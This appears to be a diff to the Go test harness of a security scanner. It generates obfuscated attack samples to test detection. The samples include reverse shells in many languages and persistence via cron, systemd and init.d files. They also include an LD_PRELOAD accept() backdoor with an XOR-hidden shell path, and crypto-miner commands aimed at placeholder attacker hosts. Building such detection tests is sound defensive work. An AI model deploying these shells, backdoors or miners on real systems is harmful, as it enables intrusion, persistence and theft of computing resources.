@@ -80,6 +80,14 @@ var shellSeeds = []shellSeed{
 	{"base64-sh", []string{"echo {B64} | base64 -d | {SH}"}, audit.CategoryMalware},
 	{"base64-sh", []string{"{v:s}={B64}", "eval \"$(echo ${v:s} | base64 --decode)\""}, audit.CategoryMalware},
 	{"base64-sh", []string{"base64 -d <<< {B64} > /tmp/.s", "{SH} /tmp/.s"}, audit.CategoryMalware},
+	// A named pipe whose name or loop program is computed at run time, TLS telnet, and the
+	// command carried by sh -c's positional parameters.
+	{"mkfifo", []string{"mkfifo {F} && telnet -z verify=0 {H} {P} 0<{F} | $(command -v sh) 1>{F}"}, audit.CategoryReverseShell},
+	{"openssl", []string{"{v:p}=\"/tmp/.$(openssl rand -hex 4)\"", "mkfifo ${v:p}", "{SH} -i < ${v:p} 2>&1 | openssl s_client -quiet -connect {H}:{P} > ${v:p}"}, audit.CategoryReverseShell},
+	{"bash-dev-tcp", []string{"{SH} -c '$@|sh' x echo sh -i '>&' /dev/tcp/{H}/{P} '0>&1'"}, audit.CategoryReverseShell},
+	// Miners started with a pool and an account, without a stratum URL.
+	{"miner-command", []string{"./kworkerds -o {H}:{P} -u " + harnessWallet + ".w1 -p x --donate-level 1 -B"}, audit.CategoryMiner},
+	{"miner-command", []string{"{v:u}=" + harnessWallet, "/usr/bin/.sysd --url={H}:{P} --user=${v:u} -a rx/0 -k --cpu-max-threads-hint 75"}, audit.CategoryMiner},
 }
 
 // Interpreter seeds, in their own language; {s}, {c}, {p} name variables; {H}, {P}, {SH} as
@@ -108,6 +116,20 @@ var langSeeds = []langSeed{
 	{"lua", "lua", "local {s}=require(\"socket\")\nlocal {c}=assert({s}.tcp())\n{c}:connect({HQ},{P})\nwhile true do\n  local {p},x={c}:receive()\n  local f=assert(io.popen({p},\"r\"))\n  local b=assert(f:read(\"*a\"))\n  {c}:send(b)\nend", audit.CategoryReverseShell},
 	{"lua", "lua", "local {s}=require(\"socket\");local {c}={s}.tcp();{c}:connect({HQ},{P});os.execute(\"{SH} -i <&3 >&3 2>&3\")", audit.CategoryReverseShell},
 	{"awk", "awk", "BEGIN {{s} = \"/inet/tcp/0/{H}/{P}\"; while(42) { do{ printf \"> \" |& {s}; {s} |& getline {c}; if({c}){ while (({c} |& getline) > 0) print $0 |& {s}; close({c}); } } while({c} != \"exit\") close({s}); }}", audit.CategoryReverseShell},
+	// Names bound at run time, reads into buffers, sockets made in place, callbacks.
+	{"python", "python", "i=__import__\n{c}=i(\"socket\").socket\n{s}={c}()\n{s}.connect(({HQ},{P}))\nd=i(\"os\").dup2\nfor n in (0,1,2): d({s}.fileno(),n)\ni(\"pty\").spawn({SHQ})", audit.CategoryReverseShell},
+	{"perl", "perl", "use IO::Socket::INET;\n${c}=IO::Socket::INET->new(PeerAddr=>{HQ}.\":\".{P});\nwhile(sysread(${c},${p},4096)){syswrite(${c},`${p}`);}", audit.CategoryReverseShell},
+	{"ruby", "ruby", "require 'socket'\nspawn({SHQ},[:in,:out,:err]=>TCPSocket.new({HQ},{P}))", audit.CategoryReverseShell},
+	{"node", "node", "{p}=require(\"child_process\").spawn({SHQ});\nrequire(\"net\").connect({P},{HQ},function(){this.pipe({p}.stdin);{p}.stdout.pipe(this);{p}.stderr.pipe(this);});", audit.CategoryReverseShell},
+	// A shell's pipes or streams copied to and from the socket.
+	{"php-relay", "php", "${s}=fsockopen({HQ},{P});\n${p}=proc_open({SHQ},array(0=>array(\"pipe\",\"r\"),1=>array(\"pipe\",\"w\"),2=>array(\"pipe\",\"w\")),${c});\nwhile(!feof(${s})){fwrite(${c}[0],fread(${s},1400));fwrite(${s},fread(${c}[1],1400));}", audit.CategoryReverseShell},
+	{"jvm-relay", "java", "var {p}=new java.lang.ProcessBuilder({SHQ}).redirectErrorStream(true).start();\nvar {s}=new java.net.Socket({HQ},{P});\nvar {c}={p}.getInputStream(),x={s}.getInputStream(),y={p}.getOutputStream(),z={s}.getOutputStream();\nwhile(!{s}.isClosed()){while({c}.available()>0)z.write({c}.read());while(x.available()>0)y.write(x.read());z.flush();y.flush();java.lang.Thread.sleep(50);}", audit.CategoryReverseShell},
+	// Other languages: Tcl, R, C, Rust and Go source.
+	{"tcl", "tcl", "set {s} [socket {HQ} {P}]\nwhile 1 {\n gets ${s} {c}\n set {p} [eval \"exec ${c}\"]\n puts ${s} ${p}\n flush ${s}\n}", audit.CategoryReverseShell},
+	{"r", "r", "{s}<-socketConnection(host={HQ},port={P},open='r+')\nrepeat{writeLines(readLines(pipe(readLines({s},1))),{s})}", audit.CategoryReverseShell},
+	{"c-source", "c", "#include <unistd.h>\n#include <arpa/inet.h>\nint main(void){\n struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons({P}); inet_pton(AF_INET, {HQ}, &a.sin_addr);\n int {s} = socket(AF_INET, SOCK_STREAM, 0);\n if (connect({s}, (struct sockaddr *)&a, sizeof a)) return 1;\n for (int {c} = 0; {c} < 3; {c}++) dup2({s}, {c});\n execl({SHQ}, \"sh\", (char *)0);\n}", audit.CategoryReverseShell},
+	{"rust-source", "rust", "use std::net::TcpStream;\nuse std::os::unix::io::{AsRawFd, FromRawFd};\nuse std::process::{Command, Stdio};\nfn main() {\n let {s} = TcpStream::connect(format!(\"{}:{}\", {HQ}, {P})).unwrap();\n let {c} = {s}.as_raw_fd();\n Command::new({SHQ}).stdin(unsafe { Stdio::from_raw_fd({c}) }).stdout(unsafe { Stdio::from_raw_fd({c}) }).spawn().unwrap().wait().unwrap();\n}", audit.CategoryReverseShell},
+	{"go-source", "go", "package main\n\nimport (\n \"fmt\"\n \"net\"\n \"os/exec\"\n)\n\nfunc main() {\n {s}, _ := net.Dial(\"tcp\", fmt.Sprintf(\"%s:%d\", {HQ}, {P}))\n {p} := exec.Command({SHQ})\n {p}.Stdin, {p}.Stdout = {s}, {s}\n {p}.Run()\n}", audit.CategoryReverseShell},
 }
 
 // Persistence and other seeds, whole files.
@@ -205,7 +227,7 @@ func renderShell(s shellSeed, o shellOpts, host, port, fifo string) string {
 			lsh = o.shell // already inside the seed's own quotes
 		}
 		l = strings.NewReplacer("{H}", h, "{P}", p, "{SH}", lsh, "{F}", fifo, "{B64}", stage).Replace(l)
-		for i, v := range []string{"cmd", "u", "s"} {
+		for i, v := range []string{"cmd", "u", "s", "p"} {
 			_ = i
 			l = strings.ReplaceAll(l, "{v:"+v+"}", names[2]+v)
 		}
@@ -336,9 +358,11 @@ func placements() []placement {
 			func(s string) string { return "@reboot " + strings.ReplaceAll(oneLine(s), "%", `\%`) + "\n" }, 0o600, true},
 		{"systemd", func(i int) string { return fmt.Sprintf("/etc/systemd/system/svc%03d.service", i) },
 			func(s string) string {
-				// systemd expands $VAR and %x in Exec lines: a unit writes $$ and %% for the shell's own.
-				line := strings.NewReplacer("$", "$$", "%", "%%").Replace(oneLine(s))
-				return "[Unit]\nDescription=helper\n[Service]\nExecStart=" + line + "\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
+				// systemd splits an Exec line into words itself: in its quotes a backslash is a C
+				// escape, and it expands $VAR and %x, so a unit writes the shell's code as one
+				// double-quoted word with \\, \", $$ and %%.
+				code := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "$", "$$", "%", "%%").Replace(joinLines(s))
+				return "[Unit]\nDescription=helper\n[Service]\nExecStart=/bin/bash -c \"" + code + "\"\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
 			}, 0o644, true},
 		{"profile.d", func(i int) string { return fmt.Sprintf("/etc/profile.d/z%03d.sh", i) }, func(s string) string { return s }, 0o644, true},
 		{"init.d", func(i int) string { return fmt.Sprintf("/etc/init.d/svc%03d", i) }, func(s string) string { return "#!/bin/sh\n" + s }, 0o755, true},
@@ -421,7 +445,8 @@ type langOpts struct {
 	inline   int  // 0 a file of the language, 1 inline in a shell script (-c/-e/-r), 2 a cron line running it inline
 }
 
-var langExt = map[string]string{"python": ".py", "perl": ".pl", "ruby": ".rb", "php": ".php", "node": ".js", "lua": ".lua", "awk": ".awk"}
+var langExt = map[string]string{"python": ".py", "perl": ".pl", "ruby": ".rb", "php": ".php", "node": ".js", "lua": ".lua", "awk": ".awk",
+	"java": ".groovy", "tcl": ".tcl", "r": ".r", "c": ".c", "rust": ".rs", "go": ".go"}
 
 func renderLang(s langSeed, o langOpts, host, port string) string {
 	names := [][3]string{{"s", "c", "p"}, {"sock", "conn", "proc"}, {"x1", "x2", "x3"}, {"_k", "_q", "_w"}}[o.names%4]
@@ -448,6 +473,13 @@ func renderLang(s langSeed, o langOpts, host, port string) string {
 			pre = fmt.Sprintf("var %s=%s,%s=%s;\n", hv, hq, pv, pq)
 		case "lua":
 			pre = fmt.Sprintf("local %s=%s\nlocal %s=%s\n", hv, hq, pv, pq)
+		case "java":
+			pre = fmt.Sprintf("var %s=%s;var %s=%s;\n", hv, hq, pv, pq)
+		case "tcl":
+			sigil = "$"
+			pre = fmt.Sprintf("set %s %s\nset %s %s\n", hv, hq, pv, pq)
+		case "r":
+			pre = fmt.Sprintf("%s<-%s\n%s<-%s\n", hv, hq, pv, pq)
 		default:
 			pre = fmt.Sprintf("%s=%s\n%s=%s\n", hv, hq, pv, pq)
 		}
@@ -468,7 +500,8 @@ func renderLang(s langSeed, o langOpts, host, port string) string {
 		code = strings.NewReplacer("fsockopen", "FsockOpen", "exec(", "EXEC(", "proc_open", "Proc_Open").Replace(code)
 	}
 	if o.comments {
-		c := map[string]string{"python": "# ", "perl": "# ", "ruby": "# ", "php": "// ", "node": "// ", "lua": "-- ", "awk": "# "}[s.lang]
+		c := map[string]string{"python": "# ", "perl": "# ", "ruby": "# ", "php": "// ", "node": "// ", "lua": "-- ", "awk": "# ",
+			"java": "// ", "tcl": "# ", "r": "# ", "c": "// ", "rust": "// ", "go": "// "}[s.lang]
 		var out []string
 		for _, l := range strings.Split(code, "\n") {
 			if s.lang == "awk" || strings.HasPrefix(l, "<?php") {
@@ -503,7 +536,8 @@ func renderLang(s langSeed, o langOpts, host, port string) string {
 
 // shellDecodeLang runs code through n layers of base64 decoded by the shell.
 func shellDecodeLang(lang, code string, n int) string {
-	prog := map[string]string{"lua": "lua -e", "awk": "awk", "python": "python3 -c", "perl": "perl -e", "ruby": "ruby -e", "php": "php -r", "node": "node -e"}[lang]
+	prog := map[string]string{"lua": "lua -e", "awk": "awk", "python": "python3 -c", "perl": "perl -e", "ruby": "ruby -e", "php": "php -r", "node": "node -e",
+		"java": "jrunscript -e", "tcl": "expect -c", "r": "Rscript -e"}[lang]
 	b := base64.StdEncoding.EncodeToString([]byte(code))
 	s := prog + " \"$(echo " + b + " | base64 -d)\""
 	for i := 1; i < n; i++ {
@@ -539,7 +573,8 @@ func oneLineCode(lang, code string) string {
 }
 
 func inlineCmd(lang, code string) string {
-	prog := map[string]string{"python": "python3 -c", "perl": "perl -e", "ruby": "ruby -rsocket -e", "php": "php -r", "node": "node -e", "lua": "lua5.3 -e", "awk": "gawk"}[lang]
+	prog := map[string]string{"python": "python3 -c", "perl": "perl -e", "ruby": "ruby -rsocket -e", "php": "php -r", "node": "node -e", "lua": "lua5.3 -e", "awk": "gawk",
+		"java": "jrunscript -e", "tcl": "expect -c", "r": "Rscript -e"}[lang]
 	if lang == "php" {
 		code = strings.TrimSpace(strings.TrimSuffix(strings.TrimPrefix(code, "<?php\n"), "?>"))
 	}
@@ -558,6 +593,14 @@ func langVariants() []variant {
 				quotes: r.IntN(2) == 0, upper: r.IntN(2) == 0, layers: r.IntN(4), inline: r.IntN(3)})
 		}
 		for oi, o := range opts {
+			switch s.lang {
+			case "c", "rust", "go":
+				// Source files of compiled languages: no inline form, no encoded stage.
+				o.inline, o.layers, o.hostVar = 0, 0, false
+				o.concat = o.concat && s.lang == "go"
+			case "tcl", "r":
+				o.concat = false
+			}
 			host, port := hosts[(si+oi)%len(hosts)], ports[(si+oi)%len(ports)]
 			code := renderLang(s, o, host, port)
 			n++
@@ -668,6 +711,26 @@ int accept(int fd, struct sockaddr *a, socklen_t *l) {
 	}
 	return c;
 }`},
+			{"pty-accept", `#define _GNU_SOURCE
+#include <dlfcn.h>
+#include <pty.h>
+#include <sys/select.h>
+#include <sys/socket.h>
+#include <unistd.h>
+static char k[] = {0x6c,0x21,0x2a,0x2d,0x6c,0x21,0x22,0x30,0x2b,0}; /* "/bin/bash" ^ 0x43 */
+static int (*next_accept)(int, struct sockaddr *, socklen_t *);
+int accept(int fd, struct sockaddr *a, socklen_t *l) {
+	if (!next_accept) next_accept = dlsym(RTLD_NEXT, "accept");
+	int c = next_accept(fd, a, l), m;
+	char b[256];
+	if (c >= 0 && fork() == 0) {
+		if (forkpty(&m, 0, 0, 0) == 0) { for (int i = 0; k[i]; i++) k[i] ^= 0x43; execl(k, k, "-i", (char *)0); }
+		for (int n;;) { fd_set s; FD_ZERO(&s); FD_SET(c, &s); FD_SET(m, &s); select(64, &s, 0, 0, 0);
+			if (FD_ISSET(c, &s) && (n = read(c, b, sizeof b)) > 0) write(m, b, n);
+			if (FD_ISSET(m, &s) && (n = read(m, b, sizeof b)) > 0) write(c, b, n); }
+	}
+	return c;
+}`},
 		}
 		for i, l := range libs {
 			src := filepath.Join(dir, l.name+".c")
@@ -675,7 +738,7 @@ int accept(int fd, struct sockaddr *a, socklen_t *l) {
 			if err := os.WriteFile(src, []byte(l.src), 0o644); err != nil {
 				t.Fatal(err)
 			}
-			if b, err := exec.Command("gcc", "-shared", "-fPIC", "-O2", "-o", so, src).CombinedOutput(); err != nil {
+			if b, err := exec.Command("gcc", "-shared", "-fPIC", "-O2", "-o", so, src, "-lutil").CombinedOutput(); err != nil {
 				t.Logf("gcc: %v %s", err, b)
 				continue
 			}
@@ -700,13 +763,15 @@ int main(void) {
 	char *v[] = {"/bin/sh", 0};
 	return execve(v[0], v, 0);
 }`), 0o644)
-		static := filepath.Join(dir, "static")
-		if b, err := exec.Command("gcc", "-static", "-O2", "-o", static, src).CombinedOutput(); err == nil {
-			data, _ := os.ReadFile(static)
-			out = append(out, variant{tech: "static-binary", path: "/usr/sbin/netmond", text: string(data), mode: 0o755,
-				cats: []audit.Category{audit.CategoryReverseShell}, desc: "static glibc"})
-		} else {
-			t.Logf("gcc -static: %v %s", err, b)
+		for i, flags := range [][]string{{"-static", "-O2"}, {"-static", "-O2", "-s"}, {"-static", "-O0", "-s"}} {
+			static := filepath.Join(dir, fmt.Sprintf("static%d", i))
+			if b, err := exec.Command("gcc", append(flags, "-o", static, src)...).CombinedOutput(); err == nil {
+				data, _ := os.ReadFile(static)
+				out = append(out, variant{tech: "static-binary", path: fmt.Sprintf("/usr/sbin/netmond%d", i), text: string(data), mode: 0o755,
+					cats: []audit.Category{audit.CategoryReverseShell}, desc: "static glibc " + strings.Join(flags, " ")})
+			} else {
+				t.Logf("gcc %v: %v %s", flags, err, b)
+			}
 		}
 	}
 	goSrc := `package main
@@ -728,10 +793,21 @@ func main() {
 	}
 }
 `
-	for i, v := range [][3]string{{"203.0.113.45:4444", "/bin/sh", "-s -w"}, {"c2.attacker.example:443", "/bin/bash", ""}} {
+	// A program with a hundred functions of its own is found by what its main package calls.
+	var helpers strings.Builder
+	helpers.WriteString("\nvar total int\n\nfunc init() {\n")
+	for i := 0; i < 100; i++ {
+		fmt.Fprintf(&helpers, "\ttotal += step%d(%d)\n", i, i)
+	}
+	helpers.WriteString("}\n")
+	for i := 0; i < 100; i++ {
+		fmt.Fprintf(&helpers, "\n//go:noinline\nfunc step%d(x int) int { return x*%d + x/3 }\n", i, i+5)
+	}
+	for i, v := range [][4]string{{"203.0.113.45:4444", "/bin/sh", "-s -w", ""}, {"c2.attacker.example:443", "/bin/bash", "", ""},
+		{"198.51.100.7:8443", "/bin/sh", "-s -w", helpers.String()}} {
 		d := filepath.Join(dir, fmt.Sprintf("go%d", i))
 		os.MkdirAll(d, 0o755)
-		os.WriteFile(filepath.Join(d, "main.go"), []byte(fmt.Sprintf(goSrc, v[0], v[1])), 0o644)
+		os.WriteFile(filepath.Join(d, "main.go"), []byte(fmt.Sprintf(goSrc, v[0], v[1])+v[3]), 0o644)
 		os.WriteFile(filepath.Join(d, "go.mod"), []byte("module example.org/agent\n\ngo 1.21\n"), 0o644)
 		bin := filepath.Join(d, "agent")
 		goBin, err := exec.LookPath("go")
